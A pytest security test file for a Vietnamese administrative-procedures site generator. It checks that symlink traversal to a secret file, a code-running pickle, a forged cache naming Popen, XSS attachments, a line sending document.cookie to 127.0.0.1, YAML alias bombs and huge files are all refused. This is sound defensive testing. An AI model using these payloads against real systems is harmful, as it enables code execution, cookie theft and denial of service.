"""Hostile files (issue 14, cases 1, 2, 4, 5, 6, 7, 10): nothing leaks, runs or is lost.

A canary string sits in a file outside ``content/`` that hostile content points at
(a symlink, a crafted cache); after each attack the built site (when one is built)
is searched for it, the canary file a crafted pickle would write must not exist,
the run ends with exit 1 or 2 and a Vietnamese message (never a traceback), and
nothing outside what cchc owns is deleted.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import re
import resource
import shutil
import socket
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from generator import build as pipeline
from generator.check.links import check_site
from generator.load import cachefile, safefs
from generator.load.cache import code_fingerprint
from tests.conftest import MINIMAL_PROCEDURE, Run
from tests.hostile import unsafe_markup

CANARY = "CANARY-7f3a9c-khong-duoc-lo-ra"
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00"
       b"\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\xff\xff?\x00\x05\xfe\x02\xfe\xa7"
       b"5\x81\x84\x00\x00\x00\x00IEND\xaeB`\x82")


def _docx() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
    return buffer.getvalue()


def plan(tep: str) -> str:
    return (f'---\nso_hieu: "05/KH-UBND"\nngay_ban_hanh: 2026-01-08\n'
            f'trich_yeu: "Kế hoạch thử"\ntep: "{tep}"\n---\n\nNội dung.\n')


def with_form(mau: str) -> str:
    return MINIMAL_PROCEDURE + f'thanh_phan_ho_so:\n  - ten: "Tờ khai"\n    mau: "{mau}"\n'


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    """Files outside content/ that must never be read: text, YAML, Markdown, a PDF."""
    folder = tmp_path / "ngoai"
    folder.mkdir()
    (folder / "bi-mat.txt").write_text(f"DEPLOY_KEY={CANARY}\n")
    (folder / "bi-mat.pdf").write_bytes(PDF + CANARY.encode())
    (folder / "thu-tuc.yml").write_text(
        MINIMAL_PROCEDURE.replace("1.001193", "9.999999") + f"{CANARY}: 1\n")
    (folder / "trang.md").write_text(f"---\ntieu_de: Trang\n---\n\n{CANARY}\n")
    (folder / "don-vi.yml").write_text(f'ten: "{CANARY}"\n')
    return folder


@pytest.fixture
def chdir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    return tmp_path


def leaked(*places: Path | str) -> list[str]:
    """Where the canary shows up: in printed text or in any file under a folder."""
    found = []
    for place in places:
        if isinstance(place, str):
            if CANARY in place:
                found.append("output")
        elif place.exists():
            found += [str(p) for p in place.rglob("*")
                      if p.is_file() and CANARY.encode() in p.read_bytes()]
    return found


def no_traceback(run: Run, code: int = 1) -> None:
    assert run.code == code, (run.code, run.out, run.err)
    assert "Traceback" not in run.err + run.out


# --- case 1: symlinks ---------------------------------------------------------------------

SYMLINKS: dict[str, tuple[str, str, dict[str, str | bytes]]] = {
    # name: (link inside content/, its target in the secret folder, other files)
    "attachment to a secret": ("tep/mau/moi-truong.pdf", "bi-mat.txt",
                               {"thu-tuc/ho-tich/1-001193.yml":
                                with_form("tep/mau/moi-truong.pdf")}),
    "attachment to a secret PDF": ("tep/ke-hoach/kh.pdf", "bi-mat.pdf",
                                   {"ke-hoach/kh.md": plan("tep/ke-hoach/kh.pdf")}),
    "attachment folder": ("tep/mau", ".", {}),
    "whole tep/ folder": ("tep", ".", {}),
    "procedure file": ("thu-tuc/ho-tich/ngoai.yml", "thu-tuc.yml", {}),
    "procedure folder": ("thu-tuc/ngoai", ".", {}),
    "free page": ("trang/ngoai.md", "trang.md", {}),
    "plans folder": ("ke-hoach", ".", {}),
    "unit file": ("don-vi.yml", "don-vi.yml", {}),
    "published addresses": ("url-da-cong-bo.txt", "bi-mat.txt", {}),
    "hotlines": ("duong-day-nong.yml", "thu-tuc.yml", {}),
}


@pytest.mark.parametrize("case", sorted(SYMLINKS))
def test_symlinks_are_refused_never_followed(case: str, cchc: Callable[..., Run],
                                             make_content: Callable[..., Path], secret: Path,
                                             chdir: Path) -> None:
    link, target, files = SYMLINKS[case]
    content = make_content({"tep/mau/that.pdf": PDF, **files})
    path = content / link
    if path.is_dir():
        shutil.rmtree(path)
    elif path.is_file():
        path.unlink()
    path.parent.mkdir(parents=True, exist_ok=True)
    os.symlink(secret / target, path)
    run = cchc("check", "--content", "content", "--strict")
    no_traceback(run)
    assert f"content/{link}:1:1: lỗi [file.symlink]: «content/{link}» là liên kết" in run.err
    assert leaked(run.out + run.err) == []
    build = cchc("build", "--content", "content", "--out", "site")
    no_traceback(build)
    assert "[file.symlink]" in build.err and not (chdir / "site").exists()
    assert leaked(build.out + build.err, chdir / "site", chdir / "site_src") == []


def test_a_content_folder_that_is_itself_a_link_is_refused(
        cchc: Callable[..., Run], make_content: Callable[..., Path], secret: Path,
        chdir: Path) -> None:
    """A repository that commits ``content -> /elsewhere`` reads nothing from there."""
    real = make_content({"tep/mau/that.pdf": PDF})
    shutil.copy(secret / "bi-mat.pdf", real / "tep" / "mau" / "bi-mat.pdf")
    real.rename(chdir / "that")
    os.symlink(chdir / "that", chdir / "content")
    for args in (("check", "--content", "content"), ("check",),
                 ("build", "--content", "content", "--out", "site")):
        run = cchc(*args)
        no_traceback(run)
        assert "content:1:1: lỗi [file.symlink]: «content» là liên kết tượng trưng" in run.err
        assert "1 lỗi" in run.err
    assert leaked(chdir / "site", chdir / "site_src") == [] and not (chdir / "site").exists()
    assert not (chdir / ".cchc-cache").exists()
    assert cchc("check", "--content", "that").code == 0  # the real folder, named as such


def test_pipes_and_hidden_links_are_refused_without_hanging(
        cchc: Callable[..., Run], make_content: Callable[..., Path], secret: Path,
        chdir: Path) -> None:
    """A named pipe would hang a reader; a link in a hidden folder is refused too."""
    content = make_content({"tep/mau/that.pdf": PDF})
    os.mkfifo(content / "tep" / "mau" / "ong.pdf")
    os.mkfifo(content / "thu-tuc" / "ong.yml")
    (content / "tep" / ".an").mkdir()
    os.symlink(secret / "bi-mat.pdf", content / "tep" / ".an" / "x.pdf")
    started = time.monotonic()
    run = cchc("check", "--content", "content")
    no_traceback(run)
    assert time.monotonic() - started < 20
    assert "content/tep/mau/ong.pdf:1:1: lỗi [file.not_regular]" in run.err
    assert "content/thu-tuc/ong.yml:1:1: lỗi [file.not_regular]" in run.err
    assert "content/tep/.an/x.pdf:1:1: lỗi [file.symlink]" in run.err  # hidden, still refused
    assert leaked(run.err) == []


def test_readers_never_follow_a_link_swapped_in_after_the_walk(tmp_path: Path,
                                                                secret: Path) -> None:
    """O_NOFOLLOW: even a link that appears between listing and reading is refused."""
    link = tmp_path / "a.yml"
    os.symlink(secret / "thu-tuc.yml", link)
    with pytest.raises(safefs.UnsafeFile) as refused:
        safefs.read_regular(link)
    assert refused.value.kind == "symlink"
    with pytest.raises(safefs.UnsafeFile):
        safefs.read_head(link)


def test_a_folder_swapped_for_a_link_after_the_walk_is_not_followed(
        make_content: Callable[..., Path], secret: Path) -> None:
    """O_NOFOLLOW guards only the last name: every folder below content/ is opened
    without following links too, once a build or check has confined content/."""
    content = make_content({"tep/mau/bi-mat.pdf": PDF, "tep/mau/sau/x.pdf": PDF})
    result = pipeline.check(content)
    listed = result.content.attachments if result.content else {}
    assert {"tep/mau/bi-mat.pdf", "tep/mau/sau/x.pdf"} <= set(listed)
    assert safefs.read_head(listed["tep/mau/bi-mat.pdf"]).startswith(b"%PDF-")
    (secret / "sau").mkdir()
    (secret / "sau" / "x.pdf").write_bytes(PDF + CANARY.encode())
    (content / "tep" / "mau").rename(content / "tep" / "cu")
    os.symlink(secret, content / "tep" / "mau")  # after the walk, before the copy
    for rel in ("tep/mau/bi-mat.pdf", "tep/mau/sau/x.pdf"):
        with pytest.raises(safefs.UnsafeFile) as refused:
            safefs.read_regular(listed[rel], safefs.ATTACHMENT_LIMIT)
        assert refused.value.kind == "symlink"
        with pytest.raises(safefs.UnsafeFile):
            safefs.read_head(listed[rel])
    assert safefs.read_regular(content / "tep" / "cu" / "bi-mat.pdf") == PDF


# --- case 2: caches cannot run code --------------------------------------------------------


class _Payload:
    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return exec, (f"open({str(self.canary)!r}, 'w').write('ran')",)


def test_a_crafted_pickle_in_the_cache_is_never_executed(
        cchc: Callable[..., Run], make_content: Callable[..., Path], chdir: Path) -> None:
    make_content({"tep/mau/that.pdf": PDF})
    ran = chdir / "ran.txt"
    bomb = pickle.dumps(_Payload(ran))
    with pytest.raises(Exception):  # noqa: B017 - proves the payload is live
        pickle.loads(pickle.dumps(_Payload(chdir / "self-test" / "x")))
    cache = chdir / ".cchc-cache"
    cache.mkdir()
    for name in ("thu-tuc.pickle", "render.pickle", "thu-tuc.json", "render.json",
                 "site_src.manifest"):
        (cache / name).write_bytes(bomb)
    check = cchc("check", "--content", "content")
    assert check.code == 0, check.err
    assert "ghi chú: bỏ qua bộ nhớ đệm «" in check.err and "thu-tuc.json" in check.err
    build = cchc("build", "--content", "content", "--out", "site")
    assert build.code == 0, build.err
    assert not ran.exists()
    # the next run reads the caches the build wrote: JSON, and used without a notice
    assert (cache / "thu-tuc.json").read_bytes().startswith(b'{"format": "cchc-cache/2"')
    again = cchc("check", "--content", "content")
    assert again.code == 0 and "bỏ qua bộ nhớ đệm" not in again.err


def test_no_module_of_cchc_uses_pickle_or_marshal() -> None:
    package = Path(__file__).parent.parent / "generator"
    users = [str(p) for p in package.rglob("*.py")
             if re.search(r"^\s*(import|from)\s+(c?pickle|marshal|shelve|dill)\b",
                          p.read_text(encoding="utf-8"), re.MULTILINE)]
    assert users == []


def test_a_forged_json_cache_is_not_trusted_as_objects(
        cchc: Callable[..., Run], make_content: Callable[..., Path], chdir: Path) -> None:
    """Even signed with this machine's key, a cache naming a class outside the content
    models (or a value of any other shape) is dropped: the file is loaded again."""
    content = make_content()
    procedure = content / "thu-tuc" / "ho-tich" / "1-001193.yml"
    info = procedure.stat()
    key = str(Path("content/thu-tuc/ho-tich/1-001193.yml"))
    body = json.dumps({key: [
        [info.st_size, info.st_mtime_ns, key],
        {"procedure": {"$model": "Popen", "fields": {"args": ["touch", "ran"]}, "set": []},
         "problems": [], "unvalidated": None}]}).encode()
    version = code_fingerprint()
    header = {"format": cachefile.FORMAT, "version": version,
              "mac": cachefile.sign(version, body)}
    (chdir / ".cchc-cache").mkdir()
    (chdir / ".cchc-cache" / "thu-tuc.json").write_bytes(
        json.dumps(header).encode() + b"\n" + body)
    result = pipeline.check(Path("content"))
    assert result.content is not None and not result.problems.fails()
    assert [p.ten for p in result.content.procedures] == ["Thủ tục đăng ký khai sinh"]
    assert not (chdir / "ran").exists()
    run = cchc("check", "--content", "content")
    assert run.code == 0 and "bỏ qua" not in run.err, run.err


@pytest.fixture
def cache_key(monkeypatch: pytest.MonkeyPatch) -> Iterator[Callable[[str], None]]:
    def use(value: str) -> None:
        monkeypatch.setenv(cachefile.KEY_ENV, value)
        cachefile.key.cache_clear()

    yield use
    monkeypatch.delenv(cachefile.KEY_ENV, raising=False)
    cachefile.key.cache_clear()


def test_a_cache_signed_with_another_key_is_not_trusted(
        make_content: Callable[..., Path], chdir: Path, cache_key: Callable[[str], None],
        capsys: pytest.CaptureFixture[str]) -> None:
    """A forged cache (committed, or a poisoned CI cache) feeds nothing into a build."""
    make_content()
    cache_key("khoa-cua-ke-tan-cong")
    pipeline.check(Path("content"), save_cache=True)
    file = chdir / ".cchc-cache" / "thu-tuc.json"
    header_line, body = file.read_bytes().split(b"\n", 1)
    forged = body.replace("Thủ tục đăng ký khai sinh".encode(), b"LUA DAO")
    header = json.loads(header_line)
    header["mac"] = cachefile.sign(header["version"], forged)
    file.write_bytes(json.dumps(header).encode() + b"\n" + forged)

    def name() -> str:
        result = pipeline.check(Path("content"))
        assert result.content is not None
        return result.content.procedures[0].ten

    assert name() == "LUA DAO"  # the forgery is used by whoever holds its key…
    cache_key("khoa-cua-may-nay")
    capsys.readouterr()
    assert name() == "Thủ tục đăng ký khai sinh"  # …and by no one else
    assert "vì không do cchc trên máy này tạo ra (chữ ký không khớp)" in capsys.readouterr().err


def test_qr_files_in_the_cache_cannot_be_planted(tmp_path: Path,
                                                 cache_key: Callable[[str], None]) -> None:
    from generator.render import qr
    cache_key("khoa-a")
    url = "https://xa.example.gov.vn/cchc/thu-tuc/1-001193/"
    first = qr.qr_svgs([(url, "Mã QR")], tmp_path)[0]
    [stored] = tmp_path.glob("*.svg")
    planted = b'<svg onload="alert(1)"><path d="M0 0"/></svg>\n'
    stored.write_bytes(planted)
    qr._memory.clear()
    assert qr.qr_svgs([(url, "Mã QR")], tmp_path)[0] == planted  # the same key reads it…
    cache_key("khoa-b")
    qr._memory.clear()
    assert qr.qr_svgs([(url, "Mã QR")], tmp_path)[0] == first  # …another key never does
    qr._memory.clear()


# --- case 4: attachments of active or mislabelled types ----------------------------------

ACTIVE: dict[str, tuple[bytes, str]] = {
    "trang.html": (b"<script>document.title='pwned'</script>", "attachment.type"),
    "trang.htm": (b"<script>alert(1)</script>", "attachment.type"),
    "anh.svg": (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
                "attachment.type"),
    "trang.xhtml": (b"<html xmlns='http://www.w3.org/1999/xhtml'><script>x()</script></html>",
                    "attachment.type"),
    "ma.js": (b"fetch('//127.0.0.1:9/'+document.cookie)", "attachment.type"),
    "ma.mjs": (b"export {}", "attachment.type"),
    "kieu.css": (b"body{display:none}", "attachment.type"),
    "du-lieu.xml": (b"<?xml version='1.0'?><x/>", "attachment.type"),
    "trang.md": (b"---\ntieu_de: x\n---\n<script>alert(1)</script>", "attachment.type"),
    "khong-duoi": (b"<script>alert(1)</script>", "attachment.type"),
    "gia.pdf": (b"<!DOCTYPE html><script>alert(1)</script>", "attachment.content"),
    "lai.pdf": (b"<html><script>alert(1)</script><!--" + PDF + b"-->", "attachment.content"),
    "lai-svg.pdf": (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>" + PDF,
                    "attachment.content"),
    "gia.png": (b"<svg onload=alert(1)>", "attachment.content"),
    "gia.docx": (b"<html><body onload=alert(1)>", "attachment.content"),
    "gia.jpg": (PNG, "attachment.content"),
}


@pytest.mark.parametrize("name", sorted(ACTIVE))
def test_active_or_mislabelled_attachments_are_refused(
        name: str, cchc: Callable[..., Run], make_content: Callable[..., Path],
        chdir: Path) -> None:
    data, code = ACTIVE[name]
    make_content({f"tep/mau/{name}": data + CANARY.encode()})
    run = cchc("check", "--content", "content")
    no_traceback(run)
    assert f"content/tep/mau/{name}:1:1: lỗi [{code}]: tệp đính kèm «{name}»" in run.err
    build = cchc("build", "--content", "content", "--out", "site")
    no_traceback(build)
    assert not (chdir / "site").exists()
    assert leaked(chdir / "site_src") == []


def test_documents_and_images_are_published(cchc: Callable[..., Run],
                                           make_content: Callable[..., Path],
                                           chdir: Path) -> None:
    files: dict[str, str | bytes] = {
        "tep/mau/a.pdf": PDF, "tep/mau/b.png": PNG, "tep/mau/c.docx": _docx(),
        "tep/mau/d.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100),
        "tep/mau/e.gif": b"GIF89a" + bytes(20), "tep/mau/f.webp": b"RIFF\0\0\0\0WEBPVP8 ",
        "tep/mau/g.rtf": b"{\\rtf1 x}", "tep/mau/h.jpg": b"\xff\xd8\xff\xe0" + bytes(20),
        "tep/mau/i.pdf": b"\r\nMIME junk from a mail client\r\n" + PDF,  # header a bit later
    }
    make_content(files)
    run = cchc("check", "--content", "content", "--strict")
    assert run.code == 0, run.err


@pytest.mark.parametrize(("field", "value"), [
    ("mau", "don-vi.yml"), ("mau", "thu-tuc/ho-tich/1-001193.yml"), ("tep", "trang/a.md"),
])
def test_mau_and_tep_must_name_an_attachment(field: str, value: str, cchc: Callable[..., Run],
                                             make_content: Callable[..., Path],
                                             chdir: Path) -> None:
    files: dict[str, str | bytes] = {"trang/a.md": "---\ntieu_de: A\n---\nA\n"}
    if field == "mau":
        files["thu-tuc/ho-tich/1-001193.yml"] = with_form(value)
    else:
        files["ke-hoach/kh.md"] = plan(value)
    make_content(files)
    run = cchc("check", "--content", "content")
    no_traceback(run)
    assert (f"lỗi [attachment.outside_tep]: trường `{field}` trỏ tới «{value}», không phải "
            "tệp đính kèm trong thư mục tep/") in run.err


# --- case 5: attachment names that break links or markup ---------------------------------

ODD_FOLDER = ") <script src=x></script> ("
ODD_NAMES = ["so #1.pdf", "mau ? 100%.pdf", "a%20b.pdf", "(ngoặc).pdf"]


@pytest.mark.slow
def test_odd_attachment_names_give_working_links_and_no_markup(
        cchc: Callable[..., Run], make_content: Callable[..., Path], chdir: Path) -> None:
    files: dict[str, str | bytes] = {f"tep/{ODD_FOLDER}/{n}": PDF for n in ODD_NAMES}
    files["ke-hoach/kh.md"] = plan(f"tep/{ODD_FOLDER}/{ODD_NAMES[0]}")
    files["bao-cao/bc.md"] = plan(f"tep/{ODD_FOLDER}/{ODD_NAMES[1]}")
    files["thu-tuc/ho-tich/1-001193.yml"] = MINIMAL_PROCEDURE + "thanh_phan_ho_so:\n" + "".join(
        f'  - ten: "Tờ {i}"\n    mau: "tep/{ODD_FOLDER}/{n}"\n' for i, n in enumerate(ODD_NAMES))
    make_content(files)
    run = cchc("build", "--content", "content", "--out", "site")
    assert run.code == 0, run.err
    site = chdir / "site"
    assert unsafe_markup(site) == []
    assert check_site(site, "/cchc/").broken == []
    pages = [site / "ke-hoach" / "kh" / "index.html", site / "thu-tuc" / "1-001193" / "index.html",
             site / "bao-cao" / "bc" / "index.html"]
    from urllib.parse import unquote

    from bs4 import BeautifulSoup
    hrefs = []
    for page in pages:
        soup = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser")
        hrefs += [(page, str(a["href"])) for a in soup.find_all("a", href=True)
                  if "script" in unquote(str(a["href"]))]
    assert len(hrefs) >= len(ODD_NAMES) + 1
    for page, href in hrefs:
        assert "<" not in href and " " not in href and "#" not in href, href
        assert (page.parent / unquote(href)).resolve().is_file(), href


# --- case 6: --out never destroys other data ---------------------------------------------


def test_out_refuses_a_folder_cchc_did_not_create(cchc: Callable[..., Run],
                                                 make_content: Callable[..., Path],
                                                 chdir: Path) -> None:
    make_content()
    www = chdir / "www"
    www.mkdir()
    (www / "index.html").write_text("portal home")
    (www / "anh.jpg").write_bytes(b"photo")
    (www / "cchc").mkdir()
    before = sorted((p.relative_to(www).as_posix(), p.read_bytes() if p.is_file() else b"")
                    for p in www.rglob("*"))
    run = cchc("build", "--content", "content", "--out", "www")
    no_traceback(run, 2)
    assert run.err == (
        "cchc build: lỗi: «www» đã có dữ liệu mà cchc không tạo ra (anh.jpg, cchc, index.html; "
        "không có tệp đánh dấu .cchc-site); cchc xóa và thay toàn bộ thư mục kết quả, nên "
        "không dựng vào đây để khỏi mất dữ liệu: chọn thư mục khác, trống hoặc chưa có, "
        "ví dụ --out site\n")
    assert sorted((p.relative_to(www).as_posix(), p.read_bytes() if p.is_file() else b"")
                  for p in www.rglob("*")) == before
    (chdir / "tep-thuong").write_text("x")
    os.symlink(www, chdir / "lien-ket")
    for out, why in (("tep-thuong", "là một tệp"), ("lien-ket", "là một liên kết")):
        refused = cchc("build", "--content", "content", "--out", out)
        no_traceback(refused, 2)
        assert f"«{out}» {why}" in refused.err
    assert (chdir / "tep-thuong").read_text() == "x"


@pytest.mark.slow
def test_out_accepts_its_own_sites_and_empty_folders(cchc: Callable[..., Run],
                                                    make_content: Callable[..., Path],
                                                    chdir: Path) -> None:
    make_content()
    (chdir / "trong").mkdir()
    for args in (("--out", "trong", "--folder"), ("--out", "trong", "--folder"),
                 ("--out", "site"), ("--out", "site")):
        run = cchc("build", "--content", "content", *args)
        assert run.code == 0, (args, run.err)
    assert (chdir / "trong" / ".cchc-site").is_file()
    assert (chdir / "site" / ".cchc-site").is_file()


# --- case 7: YAML alias bombs -----------------------------------------------------------

BOMB = "\n".join(["a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]"]
                 + [f"{chr(98 + i)}: &{chr(98 + i)} [{','.join(['*' + chr(97 + i)] * 9)}]"
                    for i in range(8)]) + "\n"


def _limited() -> None:
    limit = 1024 * 1024 * 1024
    resource.setrlimit(resource.RLIMIT_AS, (limit, limit))


@pytest.mark.parametrize("where", ["thu-tuc/ho-tich/bom.yml", "don-vi.yml", "trang/bom.md",
                                   "duong-day-nong.yml"])
def test_yaml_alias_bombs_stop_fast_in_bounded_memory(where: str,
                                                     make_content: Callable[..., Path],
                                                     tmp_path: Path) -> None:
    text = BOMB if where.endswith(".yml") else f"---\ntieu_de: x\n{BOMB}---\nx\n"
    make_content({where: ('ma_thu_tuc: "1.2"\n' if "thu-tuc" in where else "") + text})
    started = time.monotonic()
    proc = subprocess.run([sys.executable, "-m", "generator", "check"], cwd=tmp_path,
                          capture_output=True, text=True, timeout=120, check=False,
                          preexec_fn=_limited)
    assert time.monotonic() - started < 60
    assert proc.returncode == 1, proc.stderr[-2000:]
    assert "Traceback" not in proc.stderr and "MemoryError" not in proc.stderr
    assert f"content/{where}:" in proc.stderr and "lỗi [yaml.alias]" in proc.stderr


def test_a_recursive_alias_is_refused(make_content: Callable[..., Path],
                                      cchc: Callable[..., Run], chdir: Path) -> None:
    make_content({"linh-vuc.yml": "- &a [*a]\n"})
    run = cchc("check", "--content", "content")
    no_traceback(run)
    assert "content/linh-vuc.yml:1:3: lỗi [yaml.alias]" in run.err


# --- case 10: over-long names, read-only caches, huge files ------------------------------


def test_over_long_codes_and_names_are_refused_by_check(cchc: Callable[..., Run],
                                                        make_content: Callable[..., Path],
                                                        chdir: Path) -> None:
    code, field = "1." + "0" * 298, "Lĩnh vực " + "rất dài " * 32
    long_name = "ke-hoach-" + "a" * 230 + ".md"
    make_content({
        "thu-tuc/ho-tich/dai.yml": MINIMAL_PROCEDURE.replace("1.001193", code),
        "thu-tuc/ho-tich/linh-vuc.yml": MINIMAL_PROCEDURE.replace("1.001193", "1.2").replace(
            '"Hộ tịch"', f'"{field}"'),
        f"ke-hoach/{long_name}": plan("https://example.gov.vn/a.pdf"),
    })
    run = cchc("check", "--content", "content")
    no_traceback(run)
    assert (f"content/thu-tuc/ho-tich/dai.yml:1:13: lỗi [name.too_long]: mã thủ tục "
            f"«{code[:40]}…» dài 300 ký tự, vượt giới hạn 64") in run.err
    assert "content/thu-tuc/ho-tich/linh-vuc.yml:3:11: lỗi [name.too_long]: tên lĩnh vực" in run.err
    assert f"content/ke-hoach/{long_name}:1:1: lỗi [name.too_long]: tên tệp" in run.err


def test_an_unwritable_cache_folder_gives_a_message_not_a_traceback(
        cchc: Callable[..., Run], make_content: Callable[..., Path], chdir: Path,
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    make_content()
    (chdir / ".cchc-cache").write_text("not a folder")
    check = cchc("check", "--content", "content")
    assert check.code == 0, check.err
    build = cchc("build", "--content", "content", "--out", "site")
    no_traceback(build)
    assert ".cchc-cache:1:1: lỗi [output.symlink]: «.cchc-cache» là liên kết tượng trưng " \
           "hoặc không phải thư mục" in build.err
    assert (chdir / ".cchc-cache").read_text() == "not a folder"
    # a cache folder that cannot be created (as under a read-only parent: tests run as
    # root, who may write anywhere): the run goes on without a cache, with a notice
    (chdir / ".cchc-cache").unlink()
    blocked = chdir / "chi-doc"
    blocked.write_text("a file, so nothing can be created under it")
    monkeypatch.setattr(pipeline, "cache_dir_for", lambda _: blocked / ".cchc-cache")
    result = pipeline.check(Path("content"), save_cache=True)
    assert not result.problems.fails() and result.content is not None
    assert "ghi chú: không ghi được bộ nhớ đệm vào «" in capsys.readouterr().err


@pytest.mark.parametrize("name", ["site_src", ".cchc-cache", ".site.a", ".site.b"])
def test_folders_cchc_prunes_must_not_be_links(name: str, cchc: Callable[..., Run],
                                               make_content: Callable[..., Path],
                                               chdir: Path) -> None:
    """A repository that commits ``site_src -> ~`` must not get the home folder pruned."""
    make_content()
    victim = chdir / "nha"
    victim.mkdir()
    (victim / "luan-van.docx").write_bytes(b"precious")
    os.symlink(victim, chdir / name)
    if name.startswith(".site"):
        os.symlink(".site.b" if name == ".site.a" else ".site.a", chdir / "site")
    run = cchc("build", "--content", "content", "--out", "site")
    no_traceback(run)
    assert f"{name}:1:1: lỗi [output.symlink]: «{name}»" in run.err
    assert [p.name for p in victim.iterdir()] == ["luan-van.docx"]


@pytest.mark.parametrize("inside", ["site_src/thu-tuc", "site_src/thu-tuc/1-001193.md",
                                    ".cchc-cache/html", ".site.a/thu-tuc"])
def test_links_inside_folders_cchc_writes_are_refused(inside: str, cchc: Callable[..., Run],
                                                      make_content: Callable[..., Path],
                                                      chdir: Path) -> None:
    """A committed ``site_src/thu-tuc -> ~/elsewhere`` must not have pages written there."""
    make_content()
    assert cchc("build", "--content", "content", "--out", "site").code == 0
    victim = chdir / "nha"
    victim.mkdir()
    (victim / "1-001193.md").write_bytes(b"precious")
    link = chdir / inside
    if link.is_dir():
        shutil.rmtree(link)
    else:
        link.unlink(missing_ok=True)
    os.symlink(victim / "1-001193.md" if inside.endswith(".md") else victim, link)
    run = cchc("build", "--content", "content", "--out", "site")
    no_traceback(run)
    assert f"{inside}:1:1: lỗi [output.symlink]: «{inside}»" in run.err
    assert [p.name for p in victim.iterdir()] == ["1-001193.md"]
    assert (victim / "1-001193.md").read_bytes() == b"precious"


def test_huge_files_are_refused_without_being_read(make_content: Callable[..., Path],
                                                   tmp_path: Path) -> None:
    """A 1 GB sparse attachment and a 3 MB YAML file, checked under a 1 GB memory cap."""
    content = make_content({"trang/lon.md": "---\ntieu_de: A\n---\n" + "chữ " * 800_000})
    with open(content / "tep" / "lon.pdf" if (content / "tep").is_dir() else
              _mkdir(content / "tep") / "lon.pdf", "wb") as handle:
        handle.write(PDF)
        handle.truncate(1024 ** 3)  # sparse: no disk used
    proc = subprocess.run([sys.executable, "-m", "generator", "check"], cwd=tmp_path,
                          capture_output=True, text=True, timeout=120, check=False,
                          preexec_fn=_limited)
    assert proc.returncode == 1 and "Traceback" not in proc.stderr, proc.stderr[-2000:]
    assert ("content/tep/lon.pdf:1:1: lỗi [attachment.too_large]: tệp đính kèm «lon.pdf» "
            "nặng 1024,0 MB, vượt giới hạn 50,0 MB") in proc.stderr
    assert "content/trang/lon.md:1:1: lỗi [file.too_large]: tệp nặng 4,6 MB, vượt giới hạn " \
           "2,0 MB" in proc.stderr


def _mkdir(path: Path) -> Path:
    path.mkdir(parents=True, exist_ok=True)
    return path


_PEAK = """\
import resource, subprocess, sys
proc = subprocess.run([sys.executable, "-m", "generator", "build", "--out", sys.argv[1]],
                      capture_output=True, text=True)
print(proc.returncode, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)
"""


@pytest.mark.slow
def test_a_large_attachment_is_copied_in_chunks(make_content: Callable[..., Path],
                                                tmp_path: Path) -> None:
    """Peak memory of a build grows by far less than a 45 MB attachment it publishes."""
    content = make_content({"tep/mau/that.pdf": PDF})

    def peak(out: str) -> int:
        proc = subprocess.run([sys.executable, "-c", _PEAK, out], cwd=tmp_path,
                              capture_output=True, text=True, check=True)
        code, kilobytes = proc.stdout.split()
        assert code == "0", proc.stderr
        return int(kilobytes) // 1024

    small = peak("nho")
    with open(content / "tep" / "mau" / "lon.pdf", "wb") as handle:
        handle.write(PDF)
        handle.write(os.urandom(45 * 1024 * 1024))
    large = peak("lon")
    assert (tmp_path / "lon" / "tep" / "mau" / "lon.pdf").stat().st_size > 45 * 1024 * 1024
    assert large - small < 25, (small, large)


@pytest.mark.parametrize("kind", ["symlink", "alias"])
def test_new_never_edits_through_a_link_or_expands_aliases(
        kind: str, cchc: Callable[..., Run], make_content: Callable[..., Path], secret: Path,
        chdir: Path) -> None:
    content = make_content()
    hotlines = content / "duong-day-nong.yml"
    outside = secret / "duong-day-nong.yml"
    outside.write_text(f'- ten: "{CANARY}"\n  dien_thoai: "113"\n')
    if kind == "symlink":
        os.symlink(outside, hotlines)
    else:
        hotlines.write_text(BOMB)
    before = outside.read_bytes()
    run = cchc("new", "duong-day-nong", "--ten", "Y tế", "--dien-thoai", "115",
               "--content", "content")
    no_traceback(run)
    assert "cchc new: lỗi: content/duong-day-nong.yml: tệp " in run.err
    assert leaked(run.out + run.err) == []
    assert outside.read_bytes() == before
    assert hotlines.is_symlink() if kind == "symlink" else hotlines.read_text() == BOMB


# --- every new message, word for word ------------------------------------------------------

EXPECTED_MESSAGES = """\
content/tep/mau/gia.pdf:1:1: lỗi [attachment.content]: tệp đính kèm «gia.pdf» mang đuôi PDF nhưng nội dung không phải tệp PDF (có vẻ là trang web HTML)
  gợi ý: mở tệp bằng chương trình đã tạo ra nó, lưu (hoặc xuất) lại đúng định dạng PDF, rồi chép đè lên tệp này
content/tep/mau/lon.pdf:1:1: lỗi [attachment.too_large]: tệp đính kèm «lon.pdf» nặng 60,0 MB, vượt giới hạn 50,0 MB
  gợi ý: nén hoặc chia nhỏ tệp (PDF quét thì giảm độ phân giải); tệp rất lớn thì đặt ở nơi khác và ghi liên kết đầy đủ https://…
content/tep/mau/ong.pdf:1:1: lỗi [file.not_regular]: «content/tep/mau/ong.pdf» không phải tệp thường (thiết bị, ống dẫn hoặc socket); cchc không đọc được
  gợi ý: xóa mục này khỏi thư mục content/
